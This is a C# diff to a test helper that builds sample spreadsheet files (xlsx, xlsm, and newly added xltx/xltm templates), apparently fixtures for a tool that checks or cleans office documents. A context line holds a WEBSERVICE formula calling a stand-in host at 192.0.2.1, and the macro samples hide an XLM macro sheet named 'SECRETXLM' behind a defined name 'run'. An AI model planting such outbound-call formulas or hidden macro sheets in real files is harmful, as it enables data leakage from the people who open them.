@@ -9,6 +9,8 @@ internal static class SheetSamples
     private const string Type = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
     private const string Workbook = Type + "sheet.main+xml";
     private const string MacroWorkbook = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
+    private const string Template = Type + "template.main+xml";
+    private const string MacroTemplate = "application/vnd.ms-excel.template.macroEnabled.main+xml";
     private const string Names = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
 
     public static IEnumerable<(string Path, byte[] Bytes)> All()
@@ -20,10 +22,12 @@ internal static class SheetSamples
         yield return ("xlsx/shared-formula.xlsx", WithCells("<c r=\"A1\"><f t=\"shared\" ref=\"A1:B1\" si=\"0\">WEBSERVICE(\"http://192.0.2.1/SECRET\")</f><v>1</v></c><c r=\"B1\"><f t=\"shared\" si=\"0\"/><v>2</v></c>").Bytes());
         yield return ("xlsx/add-in.xlam", new SamplePackage(Main, "application/vnd.ms-excel.addin.macroEnabled.main+xml", WorkbookXml()).Bytes());
         yield return ("xlsx/binary.xlsb", new SamplePackage("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "x").Bytes());
-        yield return ("xlsm/dirty.xlsm", MacroSheet().Bytes());
+        yield return ("xlsm/dirty.xlsm", MacroSheet(MacroWorkbook).Bytes());
+        yield return ("xltx/template.xltx", Clean(Template).Bytes());
+        yield return ("xltm/dirty.xltm", MacroSheet(MacroTemplate).Bytes());
     }
 
-    public static SamplePackage Clean() => new SamplePackage(Main, Workbook, WorkbookXml("<definedNames><definedName name=\"病棟\">Sheet1!$A$1:$A$2</definedName></definedNames>"))
+    public static SamplePackage Clean(string mainType = Workbook) => new SamplePackage(Main, mainType, WorkbookXml("<definedNames><definedName name=\"病棟\">Sheet1!$A$1:$A$2</definedName></definedNames>"))
         .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet("<c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\"><f>SUM(C1:D1)+IF(1,2,3)</f><v>3</v></c><c r=\"C1\"><v>1</v></c>",
             "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/><hyperlink ref=\"B1\" location=\"Sheet1!A1\"/></hyperlinks>"))
         .Part("xl/sharedStrings.xml", Type + "sharedStrings+xml", $"<sst {Names} count=\"1\" uniqueCount=\"1\"><si><t>髙橋</t><rPh sb=\"0\" eb=\"2\"><t>タカハシ</t></rPh><phoneticPr fontId=\"0\"/></si></sst>")
@@ -56,7 +60,7 @@ internal static class SheetSamples
         .Link("xl/worksheets/sheet1.xml", "rId3", Rel + "drawing", "xl/drawings/drawing1.xml");
 
     /// <summary>A macro sheet between two sheets: what counts sheets must be counted anew.</summary>
-    private static SamplePackage MacroSheet() => new SamplePackage(Main, MacroWorkbook, $"<workbook {Names}><bookViews><workbookView activeTab=\"2\"/></bookViews><sheets>"
+    private static SamplePackage MacroSheet(string mainType) => new SamplePackage(Main, mainType, $"<workbook {Names}><bookViews><workbookView activeTab=\"2\"/></bookViews><sheets>"
             + "<sheet name=\"一\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"SECRETXLM\" sheetId=\"2\" r:id=\"rId2\"/><sheet name=\"二\" sheetId=\"3\" r:id=\"rId3\"/></sheets><definedNames>"
             + "<definedName name=\"範囲\" localSheetId=\"2\">二!$A$1</definedName><definedName name=\"run\">SECRETXLM!$A$1</definedName></definedNames></workbook>")
         .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet("<c r=\"A1\"><f>SECRETXLM!A1</f><v>7</v></c>", ""))
